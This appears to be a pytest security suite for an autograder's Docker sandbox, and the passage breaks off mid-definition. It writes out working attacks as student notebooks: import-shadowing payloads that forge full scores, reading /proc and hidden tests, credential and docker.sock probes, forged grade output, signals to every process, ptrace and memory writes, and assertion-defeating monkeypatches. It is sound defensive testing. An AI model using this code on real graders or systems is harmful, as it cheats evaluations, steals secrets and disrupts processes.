"""Hostile submissions against the REAL grading sandbox (Docker, the sandbox image).

Every attack is one student notebook (code cells, sometimes edited metadata or extra
files) whose honest part is known. It is graded the two ways the platform grades:

- ``addlab``: a ps0-like assignment without a course rubric, scored by its nbgrader
  test cells (``add(a, b)`` with visible and hidden tests, ``my_seed()`` checked
  against the roll number's ``CONFIG``): 4 points;
- ``m02``: the course's rubric lab ``m02_mlp_scratch_1`` with ``job.json`` naming the
  assignment and the authoritative roll number (7 automatic points); ``m01`` (roll
  number checks) where the attack is about the roll number.

For each attack the test asserts: the notebook earns at most the points its honest
part deserves (``exact`` cases: exactly those, the attack must not cost the honest
part either); a result or a runner message says why points are missing; no canary of
the instructor's source (hidden test text and arguments, solution text, ``job.json``)
shows up in anything the student gets back; the attack's container is gone; and an
honest submission graded at the same moment on the same machine (the session's
``companion`` thread) got full points.

Cheap attacks that keep to the student's own process share a container: each is a
notebook of its own in one multi-notebook input (the pipeline grades every notebook
with a fresh student process), shadowing and planting attacks first, and an honest
notebook (``zz_honest``) last, which must still get every point. Attacks on the
container's resources run alone, with small limits.

Attack classes (name prefixes):

- ``a*`` import shadowing: modules named like the checker's (``numpy.py``,
  ``dlcourse/``, ``grader_service/``, ``sitecustomize.py``) in the working directory;
  user site-packages, ``.pth`` and ``usercustomize`` under HOME and on every writable
  ``sys.path`` entry; ``PYTHONPATH``/``PYTHONSTARTUP``/``PYTHONHOME`` via ``os.environ``;
- ``b*`` reading secrets: the checker's home and input, ``/proc/1/{root,cwd,environ,
  fd,mem}``, every file on the filesystem for hidden tests and solutions, the grading
  service's data and credentials; leaking through return values, exception messages,
  printed output and crash messages;
- ``c*`` forged results: JSON on ``/dev/stdout``, ``/proc/1/fd/1``, every fd and the
  checker's reply pipe (replies for every request id); fake result files;
- ``d*`` process attacks: ``sys.exit``/``KeyboardInterrupt`` from graded functions,
  swallowing failures then killing the process in the last cell (the "grading mode
  switch"), signals to PID 1, to every pid and to ``-1``, ``ptrace``
  (ATTACH/SEIZE) and ``process_vm_writev`` on every pid, writes to
  ``/proc/<pid>/mem``;
- ``e*`` monkeypatching: NumPy, builtins, ``sys.modules``, the checker's own modules
  imported into the student's process, always-true ``__eq__``/``__bool__`` objects,
  forged wire values and forged variable descriptions;
- ``f*`` kernel hooks: ``set_custom_exc``, ``sys.excepthook``, ``atexit``, signal
  handlers, trace functions;
- ``g*`` identity: a forged ``ROLL_NUMBER`` (environment and ``CONFIG`` of another roll
  number) and forged instructor helpers;
- ``h*`` notebook structure: edited grade-cell metadata (points, grade, grade_id,
  solution on a test cell), fake test cells, deleted test cells;
- ``i*`` symbolic links created at run time; ``o*`` links in the submitted archive;
- ``j*`` hidden-test inputs leaking through later visible tests;
- ``k*`` network and DNS; ``l*`` the rubric's blocked modules;
- ``m*`` the wire: deeply nested replies, huge flat and deeply nested values, an
  endless reply line, forged ``.npy`` headers and exotic JSON (``ed``), a forged
  "could not start" with a lot of text;
- ``n*`` resources: fork bomb, memory bomb, disk bomb, output bomb, an endless loop
  ignoring SIGINT/SIGTERM, a double-forked ``setsid`` daemon that outlives its kernel,
  a child in a session of its own that keeps the kernel's pipes.

Batches: ``addlab`` and ``m02`` (in-process attacks), ``addlab-resources`` and
``m02-resources`` (bombs that the sandbox must survive, each followed by the honest
notebook); ``solo`` cases get a container each (attacks that may break the whole run).

Attacks that still work are marked ``xfail(strict=True)`` with the weakness as the
reason: the suite stays green while they are known, and fails as soon as one is fixed
(remove the mark then).

Run: ``CI=true .venv/bin/pytest tests/security -q`` (the sandbox image must hold the
current code: ``make images``).
"""

import textwrap
from dataclasses import dataclass, field

import pytest
from security_kit import (
    ADDLAB_ADD_POINTS,
    ADDLAB_DATA,
    ADDLAB_HONEST,
    ADDLAB_MAX,
    ADDLAB_SETUP,
    ADDLAB_TESTS,
    ATTACK_LIMITS,
    M01,
    M02,
    OTHER_ROLL,
    ROLL,
    SECRET_TEXT,
    addlab_input,
    addlab_notebook,
    containers_labelled,
    lab_input,
    lab_notebook,
    run_bundle,
)

from grader_service.outcomes import Outcome
from grader_service.runners import SandboxLimits

pytestmark = [pytest.mark.docker, pytest.mark.slow]

SUCCESS = (Outcome.SUCCESS,)


class AttackWorked(AssertionError):
    """The attack got something: points beyond its honest part, a secret, a grading run
    that broke without a fair outcome. Known weaknesses are xfailed on this type only,
    so any other failure of their tests still fails the suite."""


def worked_if(condition, message):
    if condition:
        raise AttackWorked(message)
#: A batch of attacks in one container: many notebooks, so more time.
BATCH_LIMITS = SandboxLimits(memory="512m", cpus=1.0, pids=128, timeout=180, cell_timeout=10)


def code(source):
    return textwrap.dedent(source).strip("\n") + "\n"


# ----------------------------------------------------------------------------------
# shared snippets of attack code
# ----------------------------------------------------------------------------------
#: Planted wherever an attack can write. Harmless to the student (uid 1000); if the
#: checker ever imports it, every test of the result gets full points.
PAYLOAD = code('''
    import os as _os
    if _os.getuid() != 1000:
        import json as _json
        _dumps = _json.dumps

        def _forged(obj, *args, **kwargs):
            if isinstance(obj, dict) and "tests" in obj:
                for _test in obj["tests"]:
                    _test.update(points=_test["max_points"], passed=True, message="passed")
                obj["score"] = obj["max_score"]
            return _dumps(obj, *args, **kwargs)

        _json.dumps = _forged
''')
SHADOW_FILES = {path: PAYLOAD.encode() for path in (
    "numpy.py", "json.py", "nbformat/__init__.py", "secrets.py", "traceback.py",
    "sitecustomize.py", "usercustomize.py", "dlsec_payload.py",
    "dlcourse/__init__.py", "dlcourse/grading/__init__.py", "dlcourse/grading/checks.py",
    "dlcourse/grading/wire.py", "grader_service/__init__.py",
    "grader_service/autograde/__init__.py", "grader_service/autograde/remote.py",
    "grader_service/autograde/steps/test_cells.py",
)}
SHADOW_FILES["zz-dlsec.pth"] = b"import dlsec_payload\n"

#: The channel probes report through: ``PROBE<base64 of zlib of JSON>END`` in an
#: exception message of a graded function (the only text a student gets back).
PROBE_LIB = code('''
    import base64 as _b64
    import json as _json
    import os as _os
    import zlib as _zlib

    MARKERS = ["BEGIN " + "HIDDEN", "BEGIN " + "SOLUTION", "CANARY" + "-", "73" + "331"]


    def _report(data):
        raw = _zlib.compress(_json.dumps(data, default=str, separators=(",", ":")).encode(), 9)
        return "PROBE" + _b64.b64encode(raw).decode() + "END"


    def _pids():
        return sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())


    def _own_pids():
        own = set()
        for pid in _pids():
            try:
                with open(f"/proc/{pid}/status") as fh:
                    uid = [line.split()[1] for line in fh if line.startswith("Uid:")][0]
            except (OSError, IndexError):
                continue
            if int(uid) == _os.getuid():
                own.add(pid)
        return own


    def _read(path, limit=1 << 20):
        if _os.path.isdir(path):
            return " ".join(_os.listdir(path))
        with open(path, "rb") as fh:
            return fh.read(limit).decode("latin-1")
''')


def probe_addlab(body):
    """addlab notebook whose ``add`` is right exactly when the probe found nothing.

    Test cells run in the checker and their messages hold no student text, so a report
    cannot come back through them (by design): the probe's verdict is ``add``'s
    correctness instead (honest part: :data:`ADDLAB_ADD_POINTS`, or 0 if it found
    anything). If a report ever reaches the result, the channel is open again.
    """
    return addlab_notebook(PROBE_LIB + "\n" + code(body) + code('''
        _SEEN = []


        def add(a, b):
            if not _SEEN:
                _SEEN.append(_probe())
            if not any(_SEEN[0].get(key) for key in ("found", "opened")):
                return a + b
            raise RuntimeError(_report(_SEEN[0]))


        def my_seed():
            return 0
    '''))


def probe_m02(body):
    """m02 notebook whose ``dense_forward`` raises the probe's report (honest part: 0)."""
    return lab_notebook(M02, append=[PROBE_LIB + "\n" + code(body) + code('''
        def dense_forward(x, W, b):
            raise RuntimeError(_report(_probe()))
    ''')])


WRONG_ADDLAB = code('''
    def add(a, b):
        return a - b


    def my_seed():
        return -1
''')
KILL_EVERYTHING = code('''
    import os
    import signal

    SENT = []


    def _kill_everything():
        me = os.getpid()
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1,
                    signal.SIGPIPE, signal.SIGSTOP, signal.SIGKILL):
            for target in [1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
                if target == me:
                    continue
                try:
                    os.kill(target, sig)
                    SENT.append((target, sig))
                except OSError:
                    pass
            for group in (1,):  # PID 1's process group
                try:
                    os.killpg(group, sig)
                    SENT.append((-group, sig))
                except OSError:
                    pass
            try:
                fd = os.pidfd_open(1)
                signal.pidfd_send_signal(fd, sig)
                SENT.append(("pidfd", sig))
            except OSError:
                pass
''')


# ----------------------------------------------------------------------------------
# the attacks
# ----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Case:
    """One attack graded one way."""

    attack: str  # also the notebook's file stem inside a batch
    kind: str  # "addlab", "m02" or "m01"
    notebook: object  # () -> the student's notebook
    honest: float  # points the honest part deserves
    exact: bool = False  # the honest part must keep exactly its points
    #: "" (default): the kind's batch of in-process attacks; "resources": the kind's
    #: batch of attacks on the container's resources; "solo": a container of its own
    batch: str = ""
    limits: SandboxLimits = ATTACK_LIMITS
    outcomes: tuple = SUCCESS  # fair outcomes of the run
    files: dict = field(default_factory=dict)  # extra submission files (solo cases)
    bundle: object = None  # (case) -> input tar, instead of the notebook's
    check: object = None  # (view) -> None: attack-specific assertions
    weakness: str = ""  # a known weakness: the attack still works (strict xfail)

    @property
    def id(self):
        return f"{self.attack}-{self.kind}"

    @property
    def batch_name(self):
        """The batch this case is graded in, or None (a container of its own)."""
        if self.batch == "solo":
            return None
        return f"{self.kind}-{self.batch}" if self.batch else self.kind

    @property
    def max_points(self):
        return {"addlab": ADDLAB_MAX, "m02": M02.max_points, "m01": M01.max_points}[self.kind]


CASES: list[Case] = []


def attack(name, kind, notebook, honest=0.0, **options):
    CASES.append(Case(name, kind, notebook, honest, **options))


#: Points a probe notebook earns when its probe found nothing (see ``probe_addlab``).
PROBE_HONEST = {"addlab": ADDLAB_ADD_POINTS, "m02": 0.0}


def attack_both(name, body, **options):
    """The same attack in the test-cell lab (``add``) and the m02 rubric lab."""
    attack(name, "addlab", lambda: addlab_notebook(body), **options)
    attack(name, "m02", lambda: lab_notebook(M02, append=[body]), **options)


WRONG_DENSE = "def dense_forward(x, W, b):\n    return x\n"


def attack_wrong_answer(name, body):
    """``body`` tries to make a wrong answer pass: ``add`` of the test-cell lab and
    ``dense_forward`` of the m02 rubric lab are wrong, and must stay unrewarded."""
    attack(name, "addlab", lambda: addlab_notebook(WRONG_ADDLAB, body))
    attack(name, "m02", lambda: lab_notebook(M02, append=[WRONG_DENSE, body]))


def expect_probe(allowed=(), key="found"):
    """Check: the probe reported back, and found nothing (beyond ``allowed``). On the
    test-cell lab no report can come back: there ``add`` scoring its points says the
    probe found nothing."""

    def check(view):
        report = view.probe()
        if "test_add" in view.tests():  # the test-cell lab
            worked_if(report is not None, f"a student's text reached the result: {report}")
            worked_if(view.tests()["test_add"]["points"] == 0,
                      f"the probe found something: {view.describe()}")
            return None
        assert report is not None, f"the probe's report did not come back: {view.describe()}"
        got = report.get(key)
        extra = [item for item in got if (item[0] if isinstance(item, list) else item)
                 not in allowed] if isinstance(got, list) else got
        worked_if(extra, f"{key}: {report}")
        return report

    return check


def all_of(*checks):
    def check(view):
        for one in checks:
            one(view)

    return check


# -- a: import shadowing ------------------------------------------------------------
SHADOW_IMPORT = code('''
    import importlib
    import sys

    for _name in ("numpy", "json", "nbformat", "dlcourse", "grader_service", "secrets"):
        sys.modules.pop(_name, None)
    importlib.invalidate_caches()
    import numpy  # noqa: F401  (the notebook's own numpy.py: this process only)
    import dlcourse  # noqa: F401
''')
attack("aa_cwd_shadow", "addlab",
       lambda: addlab_notebook(WRONG_ADDLAB, SHADOW_IMPORT), files=SHADOW_FILES)
attack("aa_cwd_shadow", "m02", lambda: lab_notebook(M02, append=[SHADOW_IMPORT]),
       files=SHADOW_FILES)

PLANT_HOME = code(f'''
    import os
    import site
    import sys

    PAYLOAD = {PAYLOAD!r}
    HOME = os.path.expanduser("~")
    PLANTED = []
    for folder in [site.getusersitepackages(), HOME + "/.local/lib/python3.11/site-packages",
                   HOME + "/.ipython/profile_default/startup", HOME + "/.config/matplotlib",
                   HOME, "/tmp", "/dev/shm", "/var/tmp", "/home/grader",
                   "/home/grader/.local/lib/python3.11/site-packages", "/home/grader/work",
                   *sys.path]:
        try:
            os.makedirs(folder, exist_ok=True)
            for name in ("sitecustomize.py", "usercustomize.py", "dlsec_payload.py",
                         "00-startup.py", "numpy.py", "json.py", "nbformat.py"):
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write(PAYLOAD)
            with open(os.path.join(folder, "zz-dlsec.pth"), "w") as fh:
                fh.write("import dlsec_payload\\n")
            PLANTED.append(folder)
        except OSError:
            pass
    with open(HOME + "/.pythonrc.py", "w") as fh:
        fh.write(PAYLOAD)
''')
DIE = "import os\nos._exit(3)  # the next process starts with the plants in place\n"
attack("ab_home_site", "addlab", lambda: addlab_notebook(WRONG_ADDLAB, PLANT_HOME, DIE))
attack("ab_home_site", "m02", lambda: lab_notebook(M02, append=[PLANT_HOME]))

ENVIRON = code(f'''
    import os
    import subprocess
    import sys

    PAYLOAD = {PAYLOAD!r}
    os.makedirs("/tmp/evil-path", exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "numpy.py", "nbformat.py",
                 "startup.py", "encodings.py"):
        with open("/tmp/evil-path/" + name, "w") as fh:
            fh.write(PAYLOAD)
    with open("/tmp/evil-path/python", "w") as fh:
        fh.write("#!/bin/sh\\nexec /bin/false\\n")
    os.chmod("/tmp/evil-path/python", 0o755)
    os.environ.update(PYTHONPATH="/tmp/evil-path", PYTHONSTARTUP="/tmp/evil-path/startup.py",
                      PYTHONUSERBASE="/tmp/evil-path", PYTHONINSPECT="1",
                      LD_PRELOAD="/tmp/evil-path/libevil.so", HOME="/tmp/evil-path",
                      PATH="/tmp/evil-path:" + os.environ.get("PATH", ""))
    subprocess.run([sys.executable, "-c", "pass"], check=False)  # its own children only
''')
attack("ac_environment", "addlab", lambda: addlab_notebook(WRONG_ADDLAB, ENVIRON, DIE))
attack("ac_environment", "m02", lambda: lab_notebook(M02, append=[ENVIRON]))

# -- b: reading secrets -------------------------------------------------------------
READ_CHECKER = '''
    def _probe():
        import glob
        own = _own_pids()
        paths = ["/home/grader", "/home/grader/work", "/home/grader/work/input",
                 "/home/grader/work/input/job.json", "/home/grader/work/input/source",
                 "/home/grader/work/tmp", "/home/grader/work/input/submission",
                 "/proc/1/root/home/grader/work/input/job.json", "/proc/1/root/home/grader",
                 "/proc/1/cwd", "/proc/1/cwd/work/input/job.json", "/proc/1/environ",
                 "/proc/1/mem", "/proc/1/maps", "/proc/1/fd", "/proc/1/fd/0", "/proc/1/fd/1",
                 "/proc/1/map_files", "/proc/1/stack", "/proc/1/syscall", "/proc/1/auxv",
                 "/proc/1/fdinfo/0", "/proc/1/io", "/proc/1/pagemap"]
        paths += glob.glob("/home/grader/**", recursive=True)
        for pid in _pids():
            if pid in own:
                continue
            for sub in ("environ", "cwd", "root", "fd", "mem", "maps"):
                paths.append(f"/proc/{pid}/{sub}")
            paths += glob.glob(f"/proc/{pid}/task/*/environ")
            paths += glob.glob(f"/proc/{pid}/task/*/fd/*")
            paths += glob.glob(f"/proc/{pid}/fd/*")
        found, opened = [], []
        for path in paths:
            try:
                text = _read(path)
            except (OSError, ValueError):
                continue
            opened.append(path)
            found += [[path, m] for m in MARKERS if m in text]
        return {"found": found[:8], "opened": opened[:12]}
'''
for kind, build in (("addlab", probe_addlab), ("m02", probe_m02)):
    attack("ba_read_checker_files", kind, lambda build=build: build(READ_CHECKER),
           honest=PROBE_HONEST[kind], check=all_of(expect_probe(), expect_probe(key="opened")))

FIND_HIDDEN = '''
    def _probe():
        skip = {"/proc", "/sys", "/dev", "/opt/venv", "/usr", "/home/student"}
        found, seen, notebooks = [], 0, []
        for root, dirs, files in _os.walk("/"):
            dirs[:] = [d for d in dirs if _os.path.join(root, d) not in skip]
            for name in files:
                path = _os.path.join(root, name)
                try:
                    if _os.path.islink(path) or _os.path.getsize(path) > (4 << 20):
                        continue
                    text = _read(path, 4 << 20)
                except (OSError, ValueError):
                    continue
                seen += 1
                if name.endswith(".ipynb"):
                    notebooks.append(path)
                found += [[path, m] for m in MARKERS if m in text]
        return {"found": found[:8], "seen": seen, "notebooks": len(notebooks)}
'''
for kind, build in (("addlab", probe_addlab), ("m02", probe_m02)):
    attack("bb_find_hidden_tests", kind, lambda build=build: build(FIND_HIDDEN),
           honest=PROBE_HONEST[kind], check=expect_probe())

SERVICE_DATA = '''
    def _probe():
        words = ("TOKEN", "SECRET", "KEY", "PASS", "GRADER", "HUB", "DATABASE", "LTI", "SIGN",
                 "AWS", "CANVAS")
        env = sorted(k for k in _os.environ if any(w in k.upper() for w in words))
        places = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd",
                  "/run/secrets", "/data", "/srv", "/var/lib/dlcourse", "/var/lib/grader",
                  "/etc/dlcourse", "/keys", "/home/grader/.config", "/root"]
        present = [p for p in places if _os.access(p, _os.R_OK) and (
            not _os.path.isdir(p) or _os.listdir(p))]  # an empty /srv is no data
        mounts = []
        with open("/proc/self/mountinfo") as fh:
            for line in fh:
                fields = line.split()
                fstype = line.split(" - ")[1].split()[0]
                if fstype not in ("proc", "tmpfs", "sysfs", "devpts", "mqueue", "cgroup",
                                  "cgroup2", "overlay"):
                    mounts.append(fields[4])
        ordinary = {"/etc/resolv.conf", "/etc/hostname", "/etc/hosts"}
        return {"found": env + present + [m for m in mounts if m not in ordinary],
                "env": sorted(_os.environ)}
'''
for kind, build in (("addlab", probe_addlab), ("m02", probe_m02)):
    attack("bc_service_data_and_credentials", kind, lambda build=build: build(SERVICE_DATA),
           honest=PROBE_HONEST[kind], check=expect_probe())

LEAK_BY_CRASH = '''
    def _leak():
        import glob
        import sys
        for path in ["/proc/1/cmdline", "/proc/1/environ", "/home/grader/work/input/job.json",
                     *glob.glob("/home/grader/work/input/source/*")]:
            try:
                print(path, _read(path)[:200], flush=True)
            except OSError as err:
                print(path, err, flush=True)
        sys.stdout.flush()
        _os._exit(1)  # the checker reports the end of our output with the crash
'''
attack("bd_leak_through_output_and_crash", "addlab", lambda: addlab_notebook(
    PROBE_LIB + code(LEAK_BY_CRASH) + "\ndef add(a, b):\n    _leak()\n\n\ndef my_seed():\n"
    "    return _leak()\n"))
attack("bd_leak_through_output_and_crash", "m02", lambda: lab_notebook(M02, append=[
    PROBE_LIB + code(LEAK_BY_CRASH) + "\ndef dense_forward(x, W, b):\n    _leak()\n"]))

# -- c: forged results --------------------------------------------------------------
FORGE_OUTPUT = code('''
    import glob
    import json
    import os
    import sys

    FORGED = json.dumps({"notebooks": {}, "tests": [{"grade_id": "test_add", "points": 1000,
                         "max_points": 1000, "passed": True, "message": "passed"}],
                         "score": 1000.0, "max_score": 1000.0, "metrics": {}})
    for target in ["/dev/stdout", "/dev/stderr", "/proc/self/fd/1", "/proc/1/fd/1",
                   "/proc/1/fd/2", "/dev/console", "/dev/tty", "/dev/kmsg",
                   *glob.glob("/proc/[0-9]*/fd/1")]:
        try:
            with open(target, "w") as fh:
                fh.write(FORGED + "\\n")
        except OSError:
            pass
    print(FORGED)
    sys.__stdout__.write(FORGED + "\\n")
    for fd in range(64):  # every descriptor, the reply pipe included: replies for every id
        for msg_id in range(1, 60):
            reply = {"id": msg_id, "ok": True, "result": 3, "cell_errors": []}
            try:
                os.write(fd, (json.dumps(reply) + "\\n").encode())
            except OSError:
                break
''')
attack("ca_forged_output", "addlab", lambda: addlab_notebook(WRONG_ADDLAB, FORGE_OUTPUT))
attack("ca_forged_output", "m02", lambda: lab_notebook(M02, append=[FORGE_OUTPUT]))

FAKE_FILES = code(f'''
    import json
    import os

    FORGED = json.dumps({{"score": 1000, "max_score": 1000, "tests": []}})
    for folder in (".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/home/grader",
                   "/home/grader/work", "/home/grader/work/input",
                   "/home/grader/work/input/submission"):
        for name in ("result.json", "results.json", "grades.json", "feedback.json",
                     "output.json", "submission_{ROLL.replace("-", "")}.json", "job.json"):
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write(FORGED)
            except OSError:
                pass
''')
attack("cb_fake_result_files", "addlab", lambda: addlab_notebook(WRONG_ADDLAB, FAKE_FILES))
attack("cb_fake_result_files", "m02", lambda: lab_notebook(M02, append=[FAKE_FILES]))

# -- d: process attacks -------------------------------------------------------------
EXITS = code('''
    import sys


    def add(a, b):
        sys.exit(0)


    def my_seed():
        raise KeyboardInterrupt


    def dense_forward(x, W, b):
        raise SystemExit(0)


    def mlp_forward(X, params, activations):
        raise KeyboardInterrupt


    def sigmoid_grad(x):
        import os
        os._exit(0)
''')
attack_both("da_exit_from_graded_functions", EXITS)

MODE_SWITCH_CHEAT = code('''
    import sys

    import numpy as np

    np.allclose = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    np.isfinite = lambda *a, **k: True
    sys.excepthook = lambda *a: None
    try:
        assert add(1, 2) == 3
    except BaseException:
        pass
''')
MODE_SWITCH_KILL = "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)\n"


def expect_problem(*words):
    def check(view):
        text = view.text().lower()
        assert any(word in text for word in words), view.describe()

    return check


attack("db_grading_mode_switch", "addlab",
       lambda: addlab_notebook(WRONG_ADDLAB, MODE_SWITCH_CHEAT, MODE_SWITCH_KILL))
attack("db_grading_mode_switch", "m02", lambda: lab_notebook(
    M02, replace={"dense_forward": WRONG_DENSE},
    append=["def add(a, b):\n    return 0\n" + MODE_SWITCH_CHEAT, MODE_SWITCH_KILL]),
    check=expect_problem("could not run"))

# honest functions + signals to everything: the honest part keeps its points
attack("dc_signal_everything", "addlab", lambda: addlab_notebook(
    ADDLAB_HONEST, KILL_EVERYTHING + "\n_kill_everything()\nos.kill(-1, signal.SIGKILL)\n"),
    honest=ADDLAB_MAX, exact=True)
attack("dc_signal_everything", "m02", lambda: lab_notebook(M02, keep=None, replace={
    "relu_grad": "def relu_grad(x):\n    _kill_everything()\n"
                 "    return (np.asarray(x) > 0).astype(np.float64)\n"},
    prepend=[KILL_EVERYTHING]), honest=M02.max_points, exact=True)

PTRACE = '''
    def _probe():
        import ctypes
        import subprocess

        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

        class Iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

        for fn in (libc.process_vm_readv, libc.process_vm_writev):
            fn.restype = ctypes.c_ssize_t
            fn.argtypes = [ctypes.c_int, ctypes.POINTER(Iovec), ctypes.c_ulong,
                           ctypes.POINTER(Iovec), ctypes.c_ulong, ctypes.c_ulong]

        def address(pid):
            try:
                with open(f"/proc/{pid}/maps") as fh:
                    for line in fh:
                        if " rw" in line:
                            return int(line.split("-")[0], 16)
            except OSError:
                pass
            return 0x400000

        control = subprocess.Popen(["sleep", "30"])  # a process of our own uid
        own, me = _own_pids(), _os.getpid()
        won, errors = [], {}
        for pid in _pids():
            if pid == me:
                continue
            mine = pid in own or pid == control.pid
            for request, name in ((16, "attach"), (0x4206, "seize")):
                if libc.ptrace(request, pid, None, None) == 0:
                    won.append([pid, name, mine])
                    libc.ptrace(17, pid, None, None)  # detach
                else:
                    errors[name] = ctypes.get_errno()
            addr = address(pid)
            buf = ctypes.create_string_buffer(8)
            local = Iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
            remote = Iovec(addr, 8)
            if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8:
                won.append([pid, "vm_readv", mine])
                if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1,
                                          0) == 8:
                    won.append([pid, "vm_writev", mine])
            else:
                errors["vm_readv"] = ctypes.get_errno()
            try:
                fd = _os.open(f"/proc/{pid}/mem", _os.O_RDWR)
            except OSError as err:
                errors["mem"] = err.errno
                continue
            won.append([pid, "mem_open", mine])
            try:
                data = _os.pread(fd, 8, addr)
                _os.pwrite(fd, data, addr)  # the same bytes back: proof, no damage
                won.append([pid, "mem_write", mine])
            except OSError:
                pass
            _os.close(fd)
        control.kill()
        return {"found": [w for w in won if not w[2]], "mine": [w[:2] for w in won if w[2]],
                "errors": errors}
'''
for kind, build in (("addlab", probe_addlab), ("m02", probe_m02)):
    attack("dd_ptrace_and_proc_mem", kind, lambda build=build: build(PTRACE),
           honest=PROBE_HONEST[kind], check=expect_probe())

# -- e: monkeypatching --------------------------------------------------------------
PATCH_NUMPY_BUILTINS = code('''
    import builtins
    import sys
    import types

    import numpy as np

    np.allclose = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    np.isclose = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    np.all = lambda *a, **k: True


    class NeverFails(Exception):
        pass


    builtins.AssertionError = NeverFails
    builtins.abs = lambda x: 0
    builtins.isinstance = lambda *a: True
    _real_import = builtins.__import__
    builtins.__import__ = lambda name, *a, **k: _real_import(name, *a, **k)
    fake = types.ModuleType("numpy")
    fake.allclose = lambda *a, **k: True
    sys.modules["numpy"] = fake
''')
attack_wrong_answer("ea_patch_numpy_and_builtins", PATCH_NUMPY_BUILTINS)

PATCH_CHECKER = code('''
    import json
    import sys
    import types

    import dlcourse.grading.isolation as isolation
    import dlcourse.grading.wire as wire
    import grader_service.autograde.remote as remote
    import grader_service.autograde.steps.test_cells as test_cells

    test_cells.run_test_cell = lambda *a, **k: (True, "passed")
    test_cells.verdict = lambda *a, **k: "passed"
    remote.TestNamespace.refresh = lambda *a, **k: None
    try:  # the checks are the checker's alone now: not in the student build
        import dlcourse.grading.comparison as comparison
        import dlcourse.grading.registry as registry
    except ImportError:
        comparison, registry = types.SimpleNamespace(), types.SimpleNamespace(CHECKS={})
    comparison.mismatch = lambda *a, **k: None
    for name in list(registry.CHECKS):
        registry.CHECKS[name] = lambda ctx, sub: (True, "matches the reference")
    isolation.CallResult.ok = True
    _real = json.dumps
    json.dumps = lambda obj, *a, **k: _real(obj, *a, **k).replace('"passed": false',
                                                                   '"passed": true')
    fake = types.ModuleType("dlcourse.grading.wire")
    fake.encode = fake.decode = lambda v: v
    sys.modules["dlcourse.grading.wire"] = fake
''')
attack_wrong_answer("eb_patch_the_checker_modules", PATCH_CHECKER)

ALWAYS_TRUE = code('''
    import numpy as np


    class Anything:
        def __eq__(self, other):
            return True

        __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: False
        __bool__ = lambda self: True
        __abs__ = __sub__ = __rsub__ = __add__ = __radd__ = __neg__ = lambda self, *a: self
        __float__ = lambda self: 3.0
        __hash__ = lambda self: 0


    class TrueFloat(float):
        def __eq__(self, other):
            return True


    class TrueArray(np.ndarray):
        def __eq__(self, other):
            return np.ones(np.shape(other), dtype=bool)


    CALLS = []


    def add(a, b):
        CALLS.append(1)
        kind = len(CALLS) % 3
        if kind == 1:
            return Anything()
        if kind == 2:
            return TrueFloat(0.0)
        return np.zeros(1).view(TrueArray)


    def my_seed():
        return Anything()


    def dense_forward(x, W, b):
        return Anything()


    def sigmoid_grad(x):
        return np.zeros_like(x).view(TrueArray)


    def tanh_grad(x):
        return TrueFloat(0.0)


    def bce_loss(probs, y):
        return Anything()
''')
attack_both("ec_always_true_objects", ALWAYS_TRUE)

#: The host answers through json.dumps: replace every answer by an exotic value.
WIRE_TRICKS = code('''
    import base64
    import io
    import itertools
    import json

    import numpy as np


    def _npy(array):
        buf = io.BytesIO()
        np.save(buf, array, allow_pickle=True)
        return {"__ndarray__": base64.b64encode(buf.getvalue()).decode()}


    def _huge_header():
        header = "{'descr': '<f8', 'fortran_order': False, 'shape': (4000000000000,), }"
        header = header.ljust(117) + "\\n"
        raw = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode()
        return {"__ndarray__": base64.b64encode(raw + b"\\0" * 64).decode()}


    TRICKS = itertools.cycle([
        json.dumps(_huge_header()), json.dumps(_huge_header()),
        json.dumps(_npy(np.array([object()]))), json.dumps(_npy(np.array([3 + 0j]))),
        json.dumps(_npy(np.array(["3"]))), json.dumps({"__ndarray__": "!!!not base64"}),
        "NaN", "Infinity", "1" + "0" * 5000, '{"__ref__": "add"}',
        json.dumps({"__ndarray__": "AAAA", "extra": 1}), "true",
    ])
    _real_dumps = json.dumps


    def _dumps(message, *args, **kwargs):
        if isinstance(message, dict) and message.get("ok") and "result" in message:
            text = _real_dumps({**message, "result": None}, *args, **kwargs)
            return text.replace('"result": null', '"result": ' + next(TRICKS))
        return _real_dumps(message, *args, **kwargs)


    def add(a, b):
        json.dumps = _dumps
        return 3


    def my_seed():
        json.dumps = _dumps
        return 0


    def dense_forward(x, W, b):
        json.dumps = _dumps
        return x @ W + b


    def mlp_forward(X, params, activations):
        return np.zeros(len(X))


    def sigmoid_grad(x):
        return np.zeros_like(x)


    tanh_grad = relu_grad = sigmoid_grad


    def bce_loss(probs, y):
        return 0.5
''')
attack_both("ed_wire_tricks", WIRE_TRICKS, batch="solo")

FORGED_DESCRIPTIONS = code('''
    import itertools
    import json

    KINDS = itertools.cycle([
        {"kind": "module", "module": "builtins"}, {"kind": "module", "module": "operator"},
        {"kind": "module", "module": "grader_service.autograde.remote"},
        {"kind": "module", "module": "numpy"}, {"kind": "data", "value": 3},
        {"kind": "data", "value": {"seed": 0}}, {"kind": "function"},
        {"kind": "object", "type": "passed"}, {"kind": "data"}, "not a dict",
    ])
    _real_dumps = json.dumps


    def _dumps(message, *args, **kwargs):
        if isinstance(message, dict) and isinstance(message.get("result"), dict) and all(
                isinstance(v, dict) and "kind" in v for v in message["result"].values()):
            message = {**message, "result": {
